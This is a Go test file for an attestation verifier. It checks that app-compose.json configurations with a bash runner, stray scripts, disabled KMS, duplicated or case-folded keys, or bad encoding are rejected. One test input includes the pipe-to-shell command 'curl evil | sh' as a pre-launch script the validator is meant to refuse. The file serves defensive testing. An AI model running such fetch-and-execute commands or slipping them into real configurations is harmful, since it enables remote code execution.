package attest

import (
	"context"
	"crypto/sha256"
	"encoding/hex"
	"strings"
	"testing"
)

func TestAppComposeProblems(t *testing.T) {
	const good = `{"runner":"docker-compose","docker_compose_file":"services: {}","kms_enabled":true,"key_provider":"kms"}`
	script := "echo ready"
	sum := sha256.Sum256([]byte(script))
	allowed := []string{hex.EncodeToString(sum[:])}
	for _, c := range []struct {
		name, raw string
		// want is in the problem; "" means there is none.
		want string
	}{
		{"good", good, ""},
		{"names of a newer platform", strings.Replace(good, `{`, `{"port_policy":{"a":1},`, 1), ""},
		{"key provider follows from kms_enabled", strings.Replace(good, `,"key_provider":"kms"`, ``, 1), ""},
		{"allowed script", strings.Replace(good, `{`, `{"pre_launch_script":"echo ready",`, 1), ""},
		{"empty script", strings.Replace(good, `{`, `{"pre_launch_script":"",`, 1), ""},
		{"missing", ``, "not part of the evidence"},
		{"not JSON", `runner: docker-compose`, "app-compose.json"},
		{"list", `[]`, "app-compose.json"},
		{"trailing text", good + `{}`, "more data"},
		{"bash runner", strings.Replace(good, `"docker-compose"`, `"bash"`, 1), "runner"},
		{"no runner", strings.Replace(good, `"runner":"docker-compose",`, ``, 1), "runner"},
		{"no compose file", strings.Replace(good, `"services: {}"`, `""`, 1), "docker_compose_file"},
		{"bash script", strings.Replace(good, `{`, `{"bash_script":"sh",`, 1), "bash_script"},
		{"init script", strings.Replace(good, `{`, `{"init_script":"sh",`, 1), "init_script"},
		{"other script", strings.Replace(good, `{`, `{"pre_launch_script":"curl evil | sh",`, 1), "pre_launch_script"},
		{"no instance id", strings.Replace(good, `{`, `{"no_instance_id":true,`, 1), "no_instance_id"},
		{"no KMS", strings.Replace(good, `true`, `false`, 1), "kms_enabled"},
		{"key provider none", strings.Replace(good, `"kms"`, `"none"`, 1), "key provider"},
		{"local key provider", strings.Replace(good, `"kms_enabled":true,"key_provider":"kms"`, `"local_key_provider_enabled":true`, 1), "key provider"},
		{"nothing about keys", strings.Replace(good, `,"kms_enabled":true,"key_provider":"kms"`, ``, 1), "key provider"},
		{"doubled key (ATT-24)", strings.Replace(good, `{`, `{"docker_compose_file":"evil",`, 1), "the same"},
		{"folded key (ATT-24)", strings.Replace(good, `"runner"`, `"Runner"`, 1), "must be written"},
		{"doubled key inside", strings.Replace(good, `{`, `{"port_policy":{"a":1,"a":2},`, 1), "the same"},
		{"wrong type", strings.Replace(good, `true`, `"true"`, 1), "app-compose.json"},
		{"invalid UTF-8", strings.Replace(good, `services`, "\xff", 1), "UTF-8"},
	} {
		_, problem := readAppCompose([]byte(c.raw), allowed)
		if (c.want == "") != (problem == "") || !strings.Contains(problem, c.want) {
			t.Errorf("%s: problem %q, want it to say %q", c.name, problem, c.want)
		}
	}
}

func TestAppComposeProblemsAreAllReported(t *testing.T) {
	_, problem := readAppCompose([]byte(`{"runner":"bash","no_instance_id":true,"kms_enabled":false,"key_provider":"none"}`), nil)
	for _, want := range []string{"runner", "docker_compose_file", "no_instance_id", "kms_enabled", "key provider"} {
		if !strings.Contains(problem, want) {
			t.Errorf("problem %q does not name %s", problem, want)
		}
	}
}

func TestATT15_AppComposeMustBeTheMeasuredOne(t *testing.T) {
	f := newFake(t)
	f.compose = append([]byte(nil), fakeCompose...)
	f.compose[len(f.compose)-2]++
	_, err := f.verify(t)
	wantCode(t, "another preimage", err, CodeEventLogInvalid)

	f.compose = nil
	claims, err := f.verify(t)
	if err != nil || claims.AppComposeProblem == "" || claims.ComposeText != "" {
		t.Errorf("no preimage: claims %+v, error %v", claims, err)
	}

	f.compose = make([]byte, MaxAppComposeSize+1)
	_, err = f.verify(t)
	wantCode(t, "long preimage", err, CodeTooLarge)
}

func TestATT33_EmptyInstanceIDIsReportedAsEmpty(t *testing.T) {
	f := newFake(t)
	f.events[3] = runtime(eventInstanceID, nil)
	claims, err := f.verifier(t).Verify(context.Background(), f.evidence(t), f.report.ReportData)
	if err != nil || claims.InstanceID != "" {
		t.Errorf("instance id %q, error %v", claims.InstanceID, err)
	}
}
